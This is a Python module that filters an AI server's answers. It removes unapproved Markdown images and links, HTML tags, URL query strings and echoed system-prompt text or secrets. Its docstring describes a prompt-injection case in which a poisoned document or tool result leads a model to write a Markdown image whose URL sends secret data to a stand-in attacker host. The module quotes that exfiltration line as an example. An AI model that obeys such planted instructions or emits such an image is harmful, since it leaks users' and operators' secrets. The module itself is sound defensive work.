"""What leaves the server in an answer: no channel out for planted instructions.

A model that read a poisoned document or tool result can be made to write a Markdown image
whose URL carries data (``![x](https://attacker.example/?q=SECRET)``): a chat UI that renders
Markdown fetches it without anyone clicking. The filter below, applied to every answer on
every route (whole or streamed), therefore

* removes Markdown images, and neutralises Markdown links, autolinks and reference
  definitions, whose host is not in ``server.link_hosts`` (the text of a link stays);
* strips the query and fragment of bare URLs to such hosts (the usual data channel);
* removes HTML tags and comments (``<img onerror=…>``, ``<script>``, hidden text);
* replaces any run of eight or more words copied from a system prompt with ``[…]``, and so
  any code-like word of it (``RABATT-77``, ``sk-…``: letters and digits, six or more
  characters), which is what a system prompt holds when it holds a secret;
* with ``server.redact_answers``, replaces personal data (:mod:`autonom.guard.pii`).

Code blocks and inline code are left alone: they are not rendered, and a user who asks for
an HTML snippet gets it. Streaming holds back only what the rules may still need: an
unfinished construct and the last few words.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from functools import cache
from urllib.parse import urlsplit

from autonom.guard import pii

SHINGLE = 8
"""Words in a row, copied from a system prompt, that count as an echo."""
HOLD_CHARS = 600
"""Longest construct (link, tag) a stream waits for before sending its text as is."""

IMAGE_REMOVED = "[Bild entfernt]"
LINK_REMOVED = "(Link entfernt)"
ECHO_REMOVED = "[…]"

_URL = r"((?:[^()\s<>]|\([^()\s]*\))*)"  # one level of parentheses, as in Markdown
_IMAGE = re.compile(r"!\[([^\]\n]{0,300})\]\(\s*<?" + _URL + r">?(?:\s+\"[^\"\n]*\")?\s*\)")
_LOOSE = re.compile(r"(!?)\[([^\]\n]{0,300})\]\(\s*<?([^\s)>]*)[^)\n]*\)?")
"""An image or link whose target is malformed (a space in the URL, no closing parenthesis):
no renderer fetches it, but a lenient one might, and it carries the data all the same."""
_IMAGE_REF = re.compile(r"!\[([^\]\n]{0,300})\]\[([^\]\n]{0,100})\]")
_LINK = re.compile(r"(?<!!)\[([^\]\n]{0,300})\]\(\s*<?" + _URL
                   + r">?(?:\s+\"[^\"\n]*\")?\s*\)")
_REF_DEF = re.compile(r"^[ \t]{0,3}\[[^\]\n]{1,100}\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$",
                      re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:https?|ftp)://[^>\s]*)>", re.IGNORECASE)
_BARE_URL = re.compile(r"\b(?:https?|ftp)://[^\s<>()\[\]\"']+", re.IGNORECASE)
_COMMENT = re.compile(r"<!--.*?(?:-->|$)", re.DOTALL)
_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9-]*(?:\s[^<>]*)?/?>")
_OPEN_TAG = re.compile(r"<(?:img|script|iframe|frame|object|embed|link|meta|svg|style|a|video|"
                       r"audio|source|base|form|input)\b[^<>\n]*(?=\n|$)", re.IGNORECASE)
"""A tag that fetches or runs something, left open to the end of its line (an answer cut
off by max_tokens ends like that)."""
_CODE = re.compile(r"```.*?(?:```|$)|~~~.*?(?:~~~|$)|`[^`\n]+`", re.DOTALL)
_WORD = re.compile(r"\w+")


@dataclass(frozen=True)
class OutputRules:
    link_hosts: frozenset[str] = frozenset()
    """Hosts (and their subdomains) answers may link to and show images from."""
    protected: tuple[str, ...] = ()
    """System prompts whose text must not be echoed."""
    markup: bool = True
    """Apply the link, image and HTML rules (off: only what else is asked for)."""
    personal_data: bool = False
    """Replace e-mail addresses, phone numbers, IBANs and card numbers (see guard.pii)."""

    def allows(self, url: str) -> bool:
        if not url or url.startswith("#"):
            return True  # a place on the same page
        try:
            host = (urlsplit(url if "//" in url else "//" + url).hostname or "").lower()
        except ValueError:
            return False
        return any(host == h or host.endswith("." + h) for h in self.link_hosts)


def clean(text: str, rules: OutputRules) -> str:
    """The whole answer, filtered."""
    stream = OutputFilter(rules)
    return stream.feed(text) + stream.finish()


@dataclass
class OutputFilter:
    """Filters a streamed answer: ``feed`` each delta, send what it returns, then send
    ``finish()``. The concatenation equals ``clean`` of the whole text."""

    rules: OutputRules
    _raw: str = ""
    _done: int = 0
    _in_fence: bool = False
    _echo_from: int | None = None
    """Inside a copied run: where the text after its last word (held back) begins."""
    _shingles: frozenset[tuple[str, ...]] = field(init=False)
    _whole_words: bool = field(init=False)
    """Cut only at spaces: echoes, secrets or personal data are being filtered."""

    def __post_init__(self) -> None:
        self._shingles = frozenset(_shingles(self.rules.protected))
        self._whole_words = bool(self._shingles) or self.rules.personal_data or bool(
            _secret_pattern(self.rules.protected))

    def feed(self, delta: str) -> str:
        self._raw += delta
        return self._emit(self._safe_end())

    def finish(self) -> str:
        return self._emit(len(self._raw))

    def _emit(self, end: int) -> str:
        if end <= self._done:
            return ""
        # echoes are found on everything seen so far, so none straddles the cut unseen
        text, self._echo_from = _redact_echoes(self._raw, self._shingles, self._done, end,
                                               self._echo_from, final=end == len(self._raw))
        prefix = "```" if self._in_fence else ""  # a code block that began in an earlier part
        cleaned = _clean_segment(prefix + text, self.rules)[len(prefix):]
        self._in_fence = _fences_open(self._raw[:end])
        self._done = end
        return cleaned

    def _safe_end(self) -> int:
        """Where the text that can no longer change ends: before an unfinished construct,
        and, when whole words matter (echoes of a system prompt, secrets, personal data),
        at a space before the last few words."""
        raw, end = self._raw, len(self._raw)
        if self._shingles:
            words = list(_WORD.finditer(raw, self._done))
            if len(words) < SHINGLE:
                return self._done
            end = words[-SHINGLE].start()
        end -= _partial_opener(raw, self._done, end)
        while True:  # never inside a construct that is still open there
            cut = end
            if self._whole_words:
                space = max(raw.rfind(" ", self._done, end), raw.rfind("\n", self._done, end))
                cut = space + 1 if space >= self._done else self._done
            end = cut
            for opener in _OPENERS:
                at = raw.rfind(opener, max(self._done, cut - HOLD_CHARS), end)
                if at >= 0 and not _closed(raw, at, cut):
                    end = at
            if end == cut:
                if self.rules.personal_data:  # a number may go on in the next part
                    cut = self._done + pii.unfinished(raw[self._done:cut])
                return cut


_OPENERS = ("![", "[", "<", "](", "http", "ftp", "`")


def _partial_opener(raw: str, start: int, end: int) -> int:
    """How many characters at the end of ``raw[start:end]`` may still become an opener
    (``!`` of ``![``, ``ht`` of ``http``, ``]`` of ``](``)."""
    tail = raw[max(start, end - 4):end].lower()
    for size in range(len(tail), 0, -1):
        piece = tail[-size:]
        if any(opener.startswith(piece) and opener != piece for opener in _OPENERS):
            return size
    return 0


def _closed(raw: str, at: int, end: int) -> bool:
    tail = raw[at:end]
    if tail.startswith("`"):
        return tail.count("`") % 2 == 0 or "\n" in tail
    if tail.startswith("http"):
        return any(c.isspace() for c in tail)
    if tail.startswith("<"):
        return ">" in tail or "\n" in tail
    if tail.startswith(("![", "[")):
        close = tail.find("]")
        if close < 0:
            return "\n" in tail
        rest = tail[close + 1:]
        if rest.startswith(":"):  # a reference definition ends with its line
            return "\n" in rest
        return not rest or (rest[0] not in "([" or ")" in rest or "]" in rest[1:]
                            or "\n" in rest)
    return ")" in tail or "\n" in tail


def _fences_open(text: str) -> bool:
    return (text.count("```") + text.count("~~~")) % 2 == 1


def _clean_segment(text: str, rules: OutputRules) -> str:
    if not rules.markup:
        return pii.redact(text) if rules.personal_data else text
    parts, pos = [], 0
    for code in _CODE.finditer(text):
        parts.append(_clean_prose(text[pos:code.start()], rules))
        parts.append(code.group())
        pos = code.end()
    parts.append(_clean_prose(text[pos:], rules))
    cleaned = "".join(parts)
    secret = _secret_pattern(rules.protected)
    if secret is not None:
        cleaned = secret.sub(ECHO_REMOVED, cleaned)
    return pii.redact(cleaned) if rules.personal_data else cleaned


def _clean_prose(text: str, rules: OutputRules) -> str:
    if not text:
        return text
    text = _COMMENT.sub("", text)
    text = _IMAGE.sub(lambda m: m.group() if rules.allows(m.group(2))
                      else _image_text(m.group(1)), text)
    text = _IMAGE_REF.sub(lambda m: _image_text(m.group(1)), text)
    text = _LINK.sub(lambda m: m.group() if rules.allows(m.group(2))
                     else f"{m.group(1)} {LINK_REMOVED}", text)
    text = _LOOSE.sub(lambda m: m.group() if rules.allows(m.group(3)) else
                      _image_text(m.group(2)) if m.group(1) else f"{m.group(2)} {LINK_REMOVED}",
                      text)
    text = _REF_DEF.sub(lambda m: m.group() if rules.allows(m.group(1)) else "", text)
    text = _AUTOLINK.sub(lambda m: m.group() if rules.allows(m.group(1))
                         else _bare(m.group(1)), text)
    text = _OPEN_TAG.sub("", _TAG.sub("", text))
    return _BARE_URL.sub(lambda m: m.group() if rules.allows(m.group()) else _bare(m.group()),
                         text)


def _image_text(alt: str) -> str:
    alt = alt.strip()
    return f"{IMAGE_REMOVED[:-1]}: {alt}]" if alt else IMAGE_REMOVED


def _bare(url: str) -> str:
    """A URL without its query and fragment, which is where exfiltrated data rides."""
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}{parts.path}" if parts.netloc else url


_CODE_LIKE = re.compile(r"(?<![\w-])(?=[\w-]*\d)(?=[\w-]*[A-Za-z])[A-Za-z0-9][\w-]{5,}(?![\w-])")


@cache
def _secret_pattern(protected: tuple[str, ...]) -> re.Pattern[str] | None:
    """Code-like words of the system prompts (and their code-like parts), as one pattern."""
    words: set[str] = set()
    for text in protected:
        for match in _CODE_LIKE.finditer(text):
            words.add(match.group())
            words.update(p for p in re.split(r"[-_]", match.group()) if _CODE_LIKE.fullmatch(p))
    if not words:
        return None
    alternatives = "|".join(re.escape(w) for w in sorted(words, key=len, reverse=True))
    return re.compile(alternatives, re.IGNORECASE)  # also inside longer words


def _shingles(texts: Iterable[str]) -> set[tuple[str, ...]]:
    found: set[tuple[str, ...]] = set()
    for text in texts:
        words = [w.lower() for w in _WORD.findall(text)]
        found.update(tuple(words[i:i + SHINGLE]) for i in range(len(words) - SHINGLE + 1))
    return found


def _redact_echoes(raw: str, shingles: frozenset[tuple[str, ...]], start: int, end: int,
                   run_from: int | None, final: bool = True) -> tuple[str, int | None]:
    """``raw[start:end]`` with each run of words copied from a protected text replaced by
    one marker. ``run_from`` is set when the part before ended inside such a run: the text
    from there on was held back, as this part's end is when it ends inside a run."""
    if not shingles:
        return raw[start:end], None
    begin = start
    for _ in range(SHINGLE - 1):  # look back far enough to see runs reaching into the part
        prev = raw.rfind(" ", 0, max(begin - 1, 0))
        begin = prev + 1 if prev >= 0 else 0
    words = list(_WORD.finditer(raw, begin))
    lowered = [w.group().lower() for w in words]
    hit = [False] * len(words)
    for i in range(len(words) - SHINGLE + 1):
        if tuple(lowered[i:i + SHINGLE]) in shingles:
            for j in range(i, i + SHINGLE):
                hit[j] = True
    out: list[str] = []
    in_run = run_from is not None
    pos = start if run_from is None else run_from
    for word, is_hit in zip(words, hit, strict=True):
        if word.end() <= start or word.start() >= end:
            continue
        if is_hit:
            out.append(raw[pos:word.start()] if not in_run else "")
            if not in_run:
                out.append(ECHO_REMOVED)
            in_run, pos = True, word.end()
        elif in_run:
            in_run = False
    if in_run and not final:
        return "".join(out), pos
    out.append(raw[pos:end])
    return "".join(out), None
